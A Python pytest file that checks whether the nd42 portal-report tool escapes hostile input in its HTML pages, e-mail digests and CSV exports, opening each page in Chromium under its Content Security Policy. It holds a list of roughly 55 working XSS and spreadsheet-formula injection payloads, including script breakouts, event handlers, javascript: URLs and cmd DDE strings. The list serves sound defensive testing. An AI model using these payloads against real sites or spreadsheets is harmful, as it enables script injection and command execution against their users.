"""Report safety (issue 6): every HTML page nd42 writes, built from hostile portals, opened in Chromium.

A store is built directly (no crawl): one portal per payload, and each portal carries its payload
everywhere portal text can reach a page — id (and so its file name), name, agency, level, tags,
URL and landing URL, section kinds, labels, URLs and notes, item titles, URLs, date texts and
document fields, candidates, page facts (title, header, menu, footer, language links, forms,
document fields), page errors and headers, the crawl's notes — and the URL payloads (``javascript:``,
``data:``, ``vbscript:``, a quote-breaking ``http://``) go into every URL field of every portal.
The real rule engine runs on each snapshot (rules quote section labels, titles, footers, headers
into their messages), and hand-made findings add payloads to every field a finding has (title,
message, error class, evidence url/locator/value/snippet/dates, details tables and distributions,
legal references and their notes, an unknown area, a rule id).  The profile the portals are
evaluated under has payloads in its id, titles, notes and successor notes.  Two nightly runs make
history (new failures, fixes, unknowns, to-be-confirmed notes, portals added, removed and changed).

Pages: the nightly output (landing page, both runs' dashboards, every portal report), the same
run's site in English with K = 2, the single reports ``nd42 check`` writes and their index, and
every e-mail digest's HTML part.  Each is opened from file:// in one Chromium, twice: with its CSP
(no dialog, console marker, request, CSP violation or navigation; the DOM holds only elements and
attributes our templates write, no on* attribute, no javascript:/data:/vbscript: URL; the one
script and style are exactly ours; the policy is in force: an injected script does not run) and,
for the main pages, with the CSP bypassed (escaping alone must hold).  A canary page — a report
with the raw payloads pasted in — proves each detector fires.  CSV exports are read back for
formula cells; the digests' e-mails are built (their subjects stay one header line).
"""

from __future__ import annotations

import base64
import csv
import dataclasses
import datetime as dt
import html as html_lib
import io
import json
import os
import re
import time
from collections.abc import Set as AbstractSet
from pathlib import Path
from typing import Any

import lxml.html
import pytest

from nd42.clock import VN_TZ
from nd42.history import run_changes
from nd42.nightly_out import publish_run
from nd42.notify import NotifySettings, _message, build_digests
from nd42.records import (
    Certainty,
    Evidence,
    Finding,
    LegalRef,
    ListingItem,
    PageFetch,
    PortalSnapshot,
    SectionCandidate,
    SectionSnapshot,
    Severity,
    Status,
)
from nd42.store import Store
from reports import assets
from reports.index import write_index
from reports.render import write_portal_report
from reports.site import file_names, render_site
from rules.engine import evaluate
from rules.profiles import load_profile, profile_info
from rules.scoring import score
from tests.browser import axe_harness

MARK = "MARK"
SINK = "http://127.0.0.1:9/"  # port 9 (discard): a payload that makes a request names it; none is ever made
# (kind, text): MARK becomes the payload's own marker, nd42-xss-NN, which its script would log,
# alert or request, so whatever runs says which payload it was.
PAYLOADS: tuple[tuple[str, str], ...] = (
    ("script element", '<script>alert("MARK")</script>'),
    ("external script, upper case", f'<SCRIPT SRC="{SINK}MARK.js"></SCRIPT>'),
    ("img onerror", "<img src=x onerror=\"console.log('MARK')\">"),
    ("svg onload", '<svg/onload=alert("MARK")>'),
    ("svg script", '<svg><script>console.log("MARK")</script></svg>'),
    ("svg animate to javascript:", '<svg><a><animate attributeName=href values="javascript:alert(\'MARK\')"/>'
                                   "<text y=20>x</text></a></svg>"),
    ("svg xlink:href", "<svg><a xlink:href=\"javascript:alert('MARK')\"><text y=20>x</text></a></svg>"),
    ("MathML mutation", '<math><mtext><table><mglyph><style><img src=x onerror=console.log("MARK")>'
                        "</style></mglyph></table></mtext></math>"),
    ("</script> breakout", '</script><script>console.log("MARK")</script>'),
    ("</style> breakout", '</style><script>alert("MARK")</script><style>'),
    ("</textarea> breakout", '</textarea><script>console.log("MARK")</script>'),
    ("</title> breakout", '</title><script>alert("MARK")</script>'),
    ("double-quote attribute breakout", "\" autofocus onfocus=\"console.log('MARK')\" x=\""),
    ("single-quote attribute breakout", "' autofocus onfocus='console.log(\"MARK\")' x='"),
    ("backtick attribute breakout", "` autofocus onfocus=`console.log('MARK')` x=`"),
    ("attribute and tag breakout", '"><img src=x onerror=alert("MARK")>'),
    ("iframe srcdoc", '<iframe srcdoc="&lt;script&gt;parent.console.log(&quot;MARK&quot;)&lt;/script&gt;"></iframe>'),
    ("CSS expression()", "<div style=\"width:expression(alert('MARK'))\">x</div>"),
    ("CSS url(javascript:)", "<p style=\"background:url(javascript:alert('MARK'))\">x</p>"
                             f'<style>body{{background:url("{SINK}MARK.png")}}</style>'),
    ("CSS @import", f'<style>@import "{SINK}MARK.css";</style>'),
    ("meta refresh", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('MARK')\">"),
    ("base href", f'<base href="{SINK}MARK/">'),
    ("template and noscript", '<template><script>alert("MARK")</script></template><noscript><p title="'
                              "</noscript><img src=x onerror=console.log('MARK')>\"></noscript>"),
    ("tab-split javascript: in markup", "<a href=\"java&#x09;script:alert('MARK')\">x</a>"),
    ("javascript: URL", "javascript:alert('MARK')"),
    ("javascript: URL, mixed case and controls", " \x01JaVa\tScRiPt:console.log('MARK')"),
    ("data: URL", "data:text/html;base64," + base64.b64encode(b"<script>alert('MARK')</script>").decode()
     + "#MARK"),
    ("vbscript: URL", 'vbscript:msgbox("MARK")'),
    ("http URL breaking its attribute", 'http://x/"><script>alert("MARK")</script>'),
    ("unicode escapes and JS string breakout", '\\u003cscript\\u003ealert("MARK")\\u003c/script\\u003e";'
                                               'alert("MARK");//'),
    ("entity-encoded", '&lt;script&gt;alert("MARK")&lt;/script&gt;&#60;img src=x onerror=alert("MARK")&#62;'),
    ("object and embed", "<object data=\"data:text/html,<script>alert('MARK')</script>\"></object>"
                         f'<embed src="{SINK}MARK.swf">'),
    ("form, formaction, autofocus input", "<form action=\"javascript:alert('MARK')\"><button "
                                          "formaction=\"javascript:alert('MARK')\">x</button>"
                                          '<input autofocus onfocus=console.log("MARK")></form>'),
    ("details ontoggle", '<details open ontoggle=console.log("MARK")><summary>x</summary></details>'),
    ("link stylesheet and prefetch", f'<link rel=stylesheet href="{SINK}MARK.css"><link rel=prefetch '
                                     f'href="{SINK}MARK">'),
    ("comment breakout", '<!--<img src="--><img src=x onerror=console.log("MARK")//">'),
    ("CDATA", '<![CDATA[<script>alert("MARK")</script>]]>'),
    ("body and html handlers", '<body onload=console.log("MARK")><html onmouseover=alert("MARK")>'),
    ("media onerror", "<video><source onerror=\"alert('MARK')\"></video><audio src=x onerror=console.log(\"MARK\")>"),
    ("srcset and poster", f'<img srcset="{SINK}MARK 1x"><video poster="{SINK}MARK.jpg"></video>'),
    ("data: script src", "<script src=\"data:,console.log('MARK')\"></script>"),
    ("full-width look-alikes", '＜script＞alert("MARK")＜/script＞'),
    ("UTF-7", '+ADw-script+AD4-alert("MARK")+ADw-/script+AD4-'),
    ("template syntax", '{{ "MARK"|safe }}{% raw %}${alert("MARK")}#{alert("MARK")}<%= "MARK" %>'),
    ("NUL characters", '<scr\x00ipt>alert("MARK")</scr\x00ipt>\x00<img src=x onerror=alert("MARK")>'),
    ("bidi controls", '\u202e<script>console.log("MARK")</script>\u2066\u202d\u200f'),
    ("very long", "Ạa" * 3_000 + '<script>alert("MARK")</script>'),
    ("dangling markup", f'<img src="{SINK}MARK?'),
    ("unterminated tag", '<svg onload=alert("MARK")'),
    ("marquee onstart", '<marquee onstart=console.log("MARK")>x</marquee>'),
    ("CSV formula", f'=HYPERLINK("{SINK}MARK","x")'),
    ("CSV DDE", "+cmd|' /C calc'!A0 MARK"),
    ("CSV minus", "-2+3+cmd|' /C calc'!A0 MARK"),
    ("CSV at", "@SUM(1+1)*cmd|' /C calc'!A0 MARK"),
    ("CSV tab", "\t=1+1 MARK"),
    ("CSV carriage return", "\r=1+1 MARK"),
    ("CSV formula after spaces", "  =1+1 MARK"),
)
URL_KINDS = ("javascript: URL", "javascript: URL, mixed case and controls", "data: URL", "vbscript: URL",
             "http URL breaking its attribute")
N = len(PAYLOADS)
NIGHTS = (dt.datetime(2026, 11, 23, 1, 30, tzinfo=VN_TZ), dt.datetime(2026, 11, 24, 1, 30, tzinfo=VN_TZ))
RUN_PROFILE = 11  # run 2's profile column holds payload 11 (</title>): the dashboard prints it


def marker(n: int) -> str:
    return f"nd42-xss-{n:02d}"


def payload(n: int) -> str:
    return PAYLOADS[n][1].replace(MARK, marker(n))


URLS = tuple(payload(n) for n, (kind, _) in enumerate(PAYLOADS) if kind in URL_KINDS)


def url_of(n: int) -> str:
    """The portal's own URL: the payload itself when it is a URL, else an http URL holding it."""
    return payload(n) if PAYLOADS[n][0] in URL_KINDS else f"http://p{n:02d}.test/{payload(n)}"


def portal_id(n: int) -> str:
    return f"x{n:02d}{payload(n)}"


def as_shown(text: str) -> str:
    """What an HTML parser leaves of ``text`` in body text: NUL dropped, line ends normalised."""
    return text.replace("\x00", "").replace("\r\n", "\n").replace("\r", "\n")


# ---------------------------------------------------------------------------------------------- the store
def snapshot(n: int, night: int, profile: str) -> PortalSnapshot:
    p, u, when = payload(n), url_of(n), NIGHTS[night]
    item_urls = (*URLS, u)
    home_facts: dict[str, Any] = {
        "title": f"Trang chủ {p}", "lang": "vi", "generator": p, "text": f"Nội dung {p}", "headings": [p],
        "layout": {"header": {"found": True, "text": f"Sở {p}", "images": [{"src": u, "alt": p}]},
                   "menu": {"found": True, "entries": [{"label": f"Tin tức {p}", "url": x, "level": 1}
                                                      for x in item_urls]},
                   "footer": {"found": True, "text": f"Bản quyền {p}"}},
        "language_links": [{"url": x, "label": f"English {p}", "lang": "en"} for x in item_urls],
        "links": {"external": [{"url": x, "label": p, "tag": "a"} for x in item_urls]},
        "images": [{"src": u, "alt": p}], "frames": [{"src": u, "title": p}],
        "forms": [{"action": u, "method": "get", "inputs": [{"name": p, "type": "text", "label": p}], "text_inputs": 1,
                   "textareas": 0, "selects": 0, "search_like": True, "region": "header", "submit": p}],
    }
    doc = {"fields": {"number": p, "doc_type": p, "issuer": p, "abstract": p, "signer": p}, "labels": [p],
           "dates": {"issued": "2026-11-01", "posted": "2026-11-02", "effective": None, "deadline": None},
           "files": list(item_urls)}
    snap = PortalSnapshot(portal_id(n), u, when, finished_at=when + dt.timedelta(minutes=4),
                          home_url=f"http://p{n:02d}.test/trang-chu/{p}", name=f"Cổng {p}", cms=p)
    snap.pages = [
        PageFetch(u, "home", status=200, content_type="text/html; charset=utf-8", elapsed_ms=120, size=5000,
                  headers={"server": p, "x-generator": p}, fetched_at=when.isoformat(), facts=home_facts),
        PageFetch(f"http://p{n:02d}.test/van-ban/{p}", "article", kind="legal_documents", status=200,
                  facts={"doc": doc, "text": p, "headings": [p], "date_stage": p,
                         "print": {"found": True, "how": "print_link", "snippet": p},
                         "files": [{"url": x, "label": p, "ext": "pdf"} for x in item_urls]}),
        PageFetch(f"http://p{n:02d}.test/loi/{p}", "content", kind=p, error_class=p, error_message=p),
    ]
    items = [ListingItem(f"Tin {i} {p}", x, dt.date(2026, 11, 20) - dt.timedelta(days=i), f"Ngày {p}", p, x,
                         {"number": p, "abstract": p, "issuer": p, "files": [x], "labels": [p],
                          "issued": "2026-11-01"})
             for i, x in enumerate(item_urls)]
    for i, (kind, state) in enumerate((("news", "found"), ("legal_documents", "found"),
                                       ("directive_documents", "unreachable"), ("contacts", "page"), (p, p))):
        snap.sections[kind] = SectionSnapshot(kind, f"Mục {p}", item_urls[i % len(item_urls)], p, state=state,
                                              pages=list(item_urls), items=items if state == "found" else [],
                                              error_class=p if state == "unreachable" else None,
                                              date_order="DMY" if i < 2 else p, notes=[p])
    snap.candidates = [SectionCandidate("news", p, u, "menu", 0.9, p), SectionCandidate(p, p, u, p, 0.1, p)]
    snap.crawl = {"robots_obeyed": True, "user_agent": p, "pages_fetched": len(snap.pages), "page_budget": p,
                  "duration_s": 240.0, "notes": [p]}
    # Night 2 edits every other entry (a tag more): the dashboard lists the changed registry entries.
    tags = [p, "chung"] + (["mới"] if night and n % 2 else [])
    snap.portal = {"name": snap.name, "agency": f"Cơ quan {p}", "level": p, "tags": tags,
                   "parent": f"http://parent.test/{p}", "profile": profile, "rules": {}}
    snap.discovery = {"menus": "read", "sitemap_page": "read", "sitemap_xml": "read"}
    snap.probes = {"search": {"status": "probed", "form_url": u, "action": u, "param": p, "query": p,
                              "expected_title": p, "expected_url": u, "result_url": u, "http_status": 200,
                              "found": False},
                   "english": {"status": "probed", "link": {"url": u, "label": p},
                               "home": {"url": u, "status": 200, "ok": True}, "organisation": None, "contacts": None}}
    return snap


def handmade(n: int, night: int) -> list[Finding]:
    """Findings with the payload in every field; their statuses make history on night 2 (index 1)."""
    p, u = payload(n), url_of(n)
    evidence = [Evidence(url=u, locator=p, value=p, snippet=p, dates=[p, "2026-11-02"]),
                *(Evidence(url=x, locator=p, value=p, snippet=p) for x in URLS)]
    details = {"distribution": {p: p, "khác": 3}, "note": p,
               "table": {"columns": [p, "URL"], "rows": [[p, u], *([x, x] for x in URLS)]}}
    refs = [LegalRef(p, p, p, Certainty.UNVERIFIED, p, p, p),
            LegalRef("Nghị định 42/2022/NĐ-CP", "Điều 4", certainty=Certainty.VERIFIED, note_vi=p, note_en=p)]

    def finding(rule_id: str, status: Status, area: str = "technical") -> Finding:
        return Finding(rule_id, status, Severity.HIGH, area, f"Tiêu đề {p}", f"Title {p}", f"Thông điệp {p}",
                       f"Message {p}", evidence, refs, details,
                       error_class=p if status is Status.NOT_DETERMINABLE else None)

    return [finding("XS-001", Status.FAIL if night else Status.PASS),  # a new failure
            finding("XS-002", Status.PASS if night else Status.FAIL),  # fixed
            finding("XS-003", Status.NOT_DETERMINABLE if night else Status.FAIL),  # unknown
            finding("XS-004", Status.FAIL, area=p),  # an area no template knows: a heatmap column of its own
            finding(f"Q{p}", Status.FAIL, area="content"),
            finding("XS-005", Status.ERROR, area="freshness")]


def write_profile(path: Path) -> Path:
    def toml(value: str) -> str:
        return json.dumps(value)  # JSON's escapes (\uXXXX, \", \\) are TOML's too

    everything = [payload(n) for n in range(N)]
    path.write_text("\n".join([
        f"id = {toml(payload(12))}", f"title_vi = {toml('Hồ sơ ' + payload(9))}",
        f"title_en = {toml('Profile ' + payload(10))}", 'extends = "nd42-2022"',
        f"notes_vi = [{', '.join(map(toml, everything))}]", f"notes_en = [{', '.join(map(toml, everything))}]",
        "[successor]", 'profile = "nd224-2026"', "replaced_on = 2026-07-01",
        f"note_vi = {toml(payload(13))}", f"note_en = {toml(payload(14))}", ""]), encoding="utf-8")
    return path


GONE, ADDED = f"gone{payload(0)}", f"new{payload(1)}"  # portals of one night only: the registry changed


@dataclasses.dataclass
class Built:
    run: int  # the run published (night 2)
    out: Path  # the nightly output folder
    mail: list[Path]  # every digest's HTML part
    messages: list[Any]  # the digests' e-mails
    pages: dict[str, Path]  # every page, by a readable name
    reports: dict[str, int]  # report page name → the payload its portal carries


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Built:
    base = tmp_path_factory.mktemp("hostile")
    profile_path = str(write_profile(base / "hostile-profile.toml"))
    profile = load_profile(profile_path)
    single = base / "check"
    single.mkdir()
    index_rows, reports, pages = [], {}, {}
    ruled: dict[int, list[Finding]] = {}  # the rules see the same pages both nights: evaluated once
    with Store(base / "nd42.sqlite3") as store:
        run_id = 0
        for night in (0, 1):
            run_profile = payload(RUN_PROFILE) if night else "nd42-2022"
            run_id = store.begin_run("nightly", NIGHTS[night], run_profile, {"registry_digest": f"reg-{night}"})
            for n in range(N):
                snap = snapshot(n, night, profile_path)
                findings = ruled.setdefault(n, evaluate(snap, profile, NIGHTS[night])) + handmade(n, night)
                store.save_portal(run_id, snap, findings, score(findings)["score"], profile=profile_path)
                if night:  # what `nd42 check` writes: a report of its own, its run's fields hostile too
                    run = {"id": run_id, "kind": payload(n), "started_at": NIGHTS[night], "finished_at": None,
                           "tool_version": payload(n), "source_run": payload(n)}
                    path = write_portal_report(single, snap, findings, score=score(findings), run=run,
                                               profile=profile_info(profile), lang="vi" if n % 2 else "en")
                    reports[f"check/{path.name}"] = n
                    index_rows.append({"portal": snap.portal_id, "name": snap.name, "score": score(findings)["score"],
                                       "report": path.name, "findings": findings})
            extra = dataclasses.replace(snapshot(N - 1 - night, night, profile_path),
                                        portal_id=ADDED if night else GONE)
            store.save_portal(run_id, extra, handmade(N - 1 - night, night), None, profile=profile_path)
            store.finish_run(run_id, "complete", finished_at=NIGHTS[night] + dt.timedelta(hours=1))
        out = base / "nightly"
        publish_run(store, run_id, out, flap_k=1)
        english = render_site(store, run_id, base / "en", lang="en", flap_k=2).parent
        changes = run_changes(store, run_id, flap_k=1)
    write_index(single, index_rows, title=payload(11))
    agencies = {f"Cơ quan {payload(n)}": (f"so{n}@example.gov.vn",) for n in range(N)}
    settings = NotifySettings("127.0.0.1", "nd42@example.gov.vn", {"*": ("tonghop@example.gov.vn",), **agencies},
                              dashboard_url="https://nd42.example.gov.vn")
    digests = build_digests(changes, None, settings)
    messages = [_message(d, settings) for d in digests]
    mail = base / "mail"
    mail.mkdir()
    for i, digest in enumerate(digests):
        (mail / f"digest-{i:02d}.html").write_text(digest.html, encoding="utf-8")

    pages["landing"] = out / "index.html"
    names = file_names([*(portal_id(n) for n in range(N)), ADDED])
    for label, root in (("run", out / "runs" / str(run_id)), ("en", english)):
        pages[f"{label}/index.html"] = root / "index.html"
        for n in range(N):
            pages[f"{label}/{names[portal_id(n)]}"] = root / "portals" / names[portal_id(n)]
            reports[f"{label}/{names[portal_id(n)]}"] = n
        pages[f"{label}/{names[ADDED]}"] = root / "portals" / names[ADDED]
    pages.update({f"check/{p.name}": p for p in sorted(single.glob("*.html"))})
    mails = sorted(mail.glob("*.html"))
    pages.update({f"mail/{p.name}": p for p in mails})
    return Built(run_id, out, mails, messages, pages, reports)


# ---------------------------------------------------------------------------------------------- what our pages hold
# Every element and attribute our templates write (reports/templates, reports/svg.py, nd42/nightly_out.py,
# nd42/notify.py): anything else in a page came from portal text.
ALLOWED_TAGS = frozenset((
    "html", "head", "meta", "title", "style", "body", "main", "nav", "header", "footer", "section", "p", "a", "h1",
    "h2", "h3", "h4", "table", "caption", "thead", "tbody", "tr", "th", "td", "span", "strong", "code", "small", "ul",
    "li", "div", "blockquote", "details", "summary", "br", "dl", "dt", "dd", "form", "label", "select", "option",
    "button", "noscript", "script", "svg", "line", "polyline", "circle"))
ALLOWED_ATTRS = frozenset((
    "lang", "charset", "name", "content", "http-equiv", "class", "id", "href", "aria-label", "aria-labelledby",
    "aria-live", "aria-hidden", "scope", "hidden", "for", "value", "type", "role", "width", "height", "viewBox",
    "xmlns", "x1", "y1", "x2", "y2", "stroke", "stroke-width", "stroke-dasharray", "stroke-linejoin", "points",
    "fill", "cx", "cy", "r"))
ALLOWED_LOWER = frozenset(a.lower() for a in ALLOWED_ATTRS)
CSP_REQUIRED = ("default-src 'none'", "base-uri 'none'", "form-action 'none'")
# The links our pages write: a portal's own http(s) URL, an anchor (a rule id, portal text), and our
# files — a report, a dashboard (``../index.html``, the landing page's ``runs/<id>/index.html``), an
# export — with an anchor or not.  No other scheme, no other place.
OUR_HREF = re.compile(r"(https?://|#).*|(\.\./)?(runs/\d+/|portals/|exports/)?[\w.-]+\.(html|csv|json)(#.*)?",
                      re.DOTALL)


def csp_problems(policy: str) -> list[str]:
    """Why ``policy`` is not restrictive enough (empty: it is): every source must be 'none' or a hash."""
    problems = [f"missing {d}" for d in CSP_REQUIRED if d not in policy]
    for directive in filter(None, (d.strip() for d in policy.split(";"))):
        name, *sources = directive.split()
        if name in ("require-trusted-types-for", "trusted-types"):
            continue  # 'script' and 'none': restrictions, not sources
        problems += [f"{name} {s}" for s in sources if s != "'none'" and not s.startswith("'sha256-")]
    return problems


def is_dashboard(name: str) -> bool:
    return name in ("run/index.html", "en/index.html")


def test_the_payloads_reach_every_page(built: Built) -> None:
    assert N >= 30 and len({text for _, text in PAYLOADS}) == N
    assert sum(1 for n in built.pages if n.startswith("run/")) == N + 2  # dashboard, N reports, the added portal
    assert len(built.mail) == N + 1  # the overview and one per agency
    dashboard = built.pages["run/index.html"].read_text(encoding="utf-8")
    assert all(marker(n) in dashboard for n in range(N))
    assert 'id="registry-changed"' in dashboard and marker(0) in dashboard.split('id="registry-changed"')[1]
    for name, n in built.reports.items():
        text = built.pages[name].read_text(encoding="utf-8")
        assert text.count(marker(n)) > 100, name
    # The rules quoted the portal's own text: section labels (SP-003), the Server header (SH-005).
    report = built.pages[next(k for k, v in built.reports.items() if v == 3 and k.startswith("run/"))]
    found = lxml.html.fromstring(report.read_text(encoding="utf-8"))
    for rule_id in ("SP-003", "SH-005"):
        assert marker(3) in str(found.xpath("string(//*[@id=$id])", id=rule_id)), rule_id


def test_every_page_carries_a_restrictive_csp_before_any_portal_text(built: Built) -> None:
    for name, path in built.pages.items():
        html = path.read_text(encoding="utf-8")
        head = html[:html.index("<title>")]  # the first text a portal may own
        policies = [html_lib.unescape(p) for p in
                    re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', head)]
        assert len(policies) == 1 and not csp_problems(policies[0]), (name, policies)
        assert '<meta name="referrer" content="no-referrer">' in head, name
    for policy in (assets.report_csp(), assets.dashboard_csp()):
        assert not csp_problems(policy) and "'unsafe-" not in policy


def test_no_markup_of_a_portal_survives_escaping(built: Built) -> None:
    # lxml's parser as a second opinion to Chromium's, over every page (the browser opens a sample).
    for name, path in built.pages.items():
        tree = lxml.html.fromstring(path.read_text(encoding="utf-8").replace("\x00", ""))
        for el in tree.iter():
            if not isinstance(el.tag, str):
                continue
            assert el.tag in ALLOWED_TAGS, (name, el.tag)
            for attr, value in el.attrib.items():
                attr, value = str(attr), str(value)
                # lxml's HTML parser folds names to lower case (an svg's viewBox too)
                assert attr in ALLOWED_LOWER or attr.startswith("data-"), (name, el.tag, attr)
                if attr == "href":
                    assert OUR_HREF.fullmatch(value), (name, value[:80])
        assert [s.text for s in tree.iter("script")] == ([assets.FILTER_SCRIPT] if is_dashboard(name) else []), name


def test_csv_exports_neutralise_formula_cells(built: Built) -> None:
    exports = built.out / "runs" / str(built.run) / "exports"
    cells = 0
    for path in sorted(exports.glob("*.csv")):
        for row in list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))[1:]:
            for cell in row:
                cells += 1
                # A spreadsheet may skip leading blanks and controls before it looks for a formula.
                start = cell.lstrip(" \t\r\n\x00\u00a0\u3000")
                assert not start.startswith(("=", "+", "-", "@")) or re.fullmatch(r"-?\d+(\.\d+)?", cell), \
                    (path.name, cell[:80])
    assert cells > 1000
    findings = (exports / "findings.csv").read_text(encoding="utf-8-sig")
    for n, (kind, _) in enumerate(PAYLOADS):
        if kind.startswith("CSV"):
            assert marker(n) in findings, kind  # exported, as text


def test_digests_are_escaped_and_their_subjects_one_line(built: Built) -> None:
    assert len(built.messages) == N + 1
    for message in built.messages:
        assert not re.search(r"[\x00-\x1f\x7f-\x9f\u2028\u2029]", str(message["Subject"])), message["Subject"]
        assert "<script" not in message.get_body(("html",)).get_content()
    overview = built.mail[0].read_text(encoding="utf-8")
    assert all(marker(n) in overview for n in range(N))


# ---------------------------------------------------------------------------------------------- in Chromium
INIT = """
window.__nd42 = {violations: []};
document.addEventListener("securitypolicyviolation", (e) => {
  window.__nd42.violations.push(e.violatedDirective + " " + e.blockedURI + " " + (e.sample || ""));
});
"""

# The DOM as Chromium built it: elements and attributes not ours, handlers, script URLs, metas.
INSPECT = """([tags, attrs]) => {
  const allowedTags = new Set(tags), allowedAttrs = new Set(attrs), bad = [];
  const scheme = (v) => v.replace(/[\\t\\n\\r]/g, "").replace(/^[\\u0000-\\u0020]+/, "").toLowerCase();
  for (const el of document.querySelectorAll("*")) {
    const tag = el.localName;
    if (!allowedTags.has(tag)) bad.push("element <" + tag + ">");
    for (const a of el.attributes) {
      const name = a.name.toLowerCase();
      if (name.startsWith("on")) bad.push("handler " + tag + "[" + name + "]");
      else if (!allowedAttrs.has(a.name) && !name.startsWith("data-")) bad.push("attribute " + tag + "[" + name + "]");
      if (["href", "src", "action", "formaction", "xlink:href", "data", "poster", "srcset", "background"].includes(name)
          && /^(javascript|data|vbscript):/.test(scheme(a.value)))
        bad.push("script URL " + tag + "[" + name + "]=" + a.value.slice(0, 60));
    }
  }
  for (const a of document.querySelectorAll("a[href], area[href]")) {
    if (!["http:", "https:", "file:"].includes(a.protocol)) bad.push("link " + a.protocol + " " + a.href.slice(0, 60));
  }
  for (const m of document.querySelectorAll("meta[http-equiv]")) {
    if (m.httpEquiv.toLowerCase() !== "content-security-policy") bad.push("meta http-equiv=" + m.httpEquiv);
  }
  return {bad, violations: window.__nd42.violations.slice(),
          csp: [...document.querySelectorAll("meta[http-equiv]")].map((m) => m.content),
          scripts: [...document.scripts].map((s) => s.text), styles: document.querySelectorAll("style").length,
          h1: (document.querySelector("h1") || {textContent: ""}).textContent,
          names: [...document.querySelectorAll("#ranking th[scope=row] a, h3")].map((a) => a.textContent)};
}"""

# What a payload that escaped the templates would bring, injected after load: an inline script (its
# text a text node: no Trusted Types sink throws, the policy alone must refuse it at run time), an
# event handler on an image that fails, and a javascript: link followed.  Each, if it runs, pushes its
# name.  With the page's policy nothing runs and each refusal is a securitypolicyviolation (Playwright's
# evaluate itself is exempt from the policy); with the CSP bypassed all three run, so the probe is real.
PROBE = """async () => {
  const ran = window.__nd42_ran = [], refused = [], before = window.__nd42.violations.length;
  const attempt = (what, f) => { try { f(); } catch (e) { refused.push(what + ": " + e.name); } };
  attempt("script", () => {
    const s = document.createElement("script");
    s.appendChild(document.createTextNode("window.__nd42_ran.push('script')"));
    document.body.appendChild(s);
  });
  const failed = new Promise((r) => attempt("handler", () => {
    const img = document.createElement("img");
    img.addEventListener("error", r);
    img.setAttribute("onerror", "window.__nd42_ran.push('handler')");
    img.setAttribute("src", "nd42-missing.png");
    document.body.appendChild(img);
  }));
  attempt("url", () => {
    const a = document.createElement("a");
    a.setAttribute("href", "javascript:void window.__nd42_ran.push('url')");
    document.body.appendChild(a);
    a.click();
  });
  await Promise.race([failed, new Promise((r) => setTimeout(r, 500))]);
  await new Promise((r) => setTimeout(r, 50));  // a javascript: URL runs in a task of its own
  return {ran: ran.slice().sort(), refused, violations: window.__nd42.violations.slice(before)};
}"""
PROBED = ["handler", "script", "url"]


@dataclasses.dataclass
class Seen:
    dialogs: list[str] = dataclasses.field(default_factory=list)
    console: list[str] = dataclasses.field(default_factory=list)
    requests: list[str] = dataclasses.field(default_factory=list)
    navigations: list[str] = dataclasses.field(default_factory=list)
    pages: dict[str, dict[str, Any]] = dataclasses.field(default_factory=dict)

    def markers(self) -> set[str]:
        """The payloads that ran: their markers in a dialog, the console, a request or a navigation."""
        return set(re.findall(r"nd42-xss-\d\d", " ".join(self.dialogs + self.console + self.requests
                                                        + self.navigations)))


def open_pages(browser: Any, pages: dict[str, Path], *, bypass_csp: bool,
               probe: AbstractSet[str] = frozenset()) -> Seen:
    """Open each page in one new context, as an official would from a file share; what happened."""
    seen = Seen()
    current = [""]
    context = browser.new_context(bypass_csp=bypass_csp)

    def route(r: Any) -> None:  # nothing but the page itself is ever fetched, file:// included
        if r.request.url == current[0]:
            r.continue_()
        else:
            seen.requests.append(r.request.url)
            r.abort()

    context.route("**/*", route)
    context.add_init_script(script=INIT)
    page = context.new_page()
    def dialog(d: Any) -> None:
        seen.dialogs.append(d.message)
        d.dismiss()

    page.on("dialog", dialog)
    # CSP refusals are logged as errors, quoting no payload of a page of ours (in the canary they quote
    # the URLs refused); anything else logged is suspect.  Kept as "type: text".
    page.on("console", lambda m: seen.console.append(f"{m.type}: {m.text}")
            if m.type != "error" or "nd42-xss" in m.text else None)
    page.on("request", lambda r: seen.requests.append(r.url) if r.url != current[0] else None)
    page.on("framenavigated", lambda f: seen.navigations.append(f.url)
            if f != page.main_frame or f.url != current[0] else None)
    try:
        for name, path in pages.items():
            current[0] = path.as_uri()
            page.goto(current[0], wait_until="load")
            result = page.evaluate(INSPECT, [sorted(ALLOWED_TAGS), sorted(ALLOWED_ATTRS)])
            result.update(url=page.url, frames=len(page.frames))
            if name in probe:
                current[0] = ""  # the probe's image is a request of ours: it must be refused, not counted
                result["probe"] = page.evaluate(PROBE)
                seen.requests = [u for u in seen.requests if not u.endswith("nd42-missing.png")]
            seen.pages[name] = result
    finally:
        context.close()
    return seen


def canary(built: Built) -> Path:
    """A portal report with every payload pasted in raw, as a template that forgot to escape would."""
    name = next(k for k in built.reports if k.startswith("run/"))
    html = built.pages[name].read_text(encoding="utf-8")
    # meta refresh left out: its navigation would end the page before the others are seen.
    raw = "".join(f"<div>{payload(n)}</div>" for n in range(N) if PAYLOADS[n][0] != "meta refresh")
    path = built.pages[name].with_name("canary.html")
    path.write_text(html.replace("<main>", "<main>" + raw, 1), encoding="utf-8")
    return path


def browser_pages(built: Built) -> tuple[dict[str, Path], dict[str, Path], set[str]]:
    """The pages opened with their CSP, those opened again without it, and one of each template probed.

    Every page of the nightly output is opened; of the English site and the single reports (the same
    templates, other fields), every fourth; the overview digest and two agencies' digests.
    """
    pages = {}
    for i, (name, path) in enumerate(built.pages.items()):
        if name.startswith(("landing", "run/")) or name.endswith(("/index.html", "digest-00.html")) \
                or (name.startswith(("en/", "check/")) and i % 4 == 0) or name.endswith(("-01.html", "-02.html")):
            pages[name] = path
    bare = {k: v for k, v in pages.items() if k.startswith(("landing", "run/", "mail/digest-00"))}
    kinds = ("landing", "run/index.html", "run/x", "en/x", "check/index.html", "check/x", "mail/")
    probe = {next(k for k in pages if k.startswith(kind) and (k.endswith("index.html") == kind.endswith("index.html")))
             for kind in kinds}
    return pages, bare, probe


def test_no_payload_runs_in_chromium(built: Built, capsys: pytest.CaptureFixture[str]) -> None:
    why = axe_harness.missing()
    if why is not None:
        reason, skip = why
        if skip:
            pytest.skip(reason)
        pytest.fail(reason)
    from playwright.sync_api import sync_playwright

    os.environ.setdefault("PLAYWRIGHT_SKIP_BROWSER_DOWNLOAD", "1")
    pages, bare, probe = browser_pages(built)
    bait = {"canary": canary(built)}
    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=str(axe_harness.CHROMIUM), headless=True,
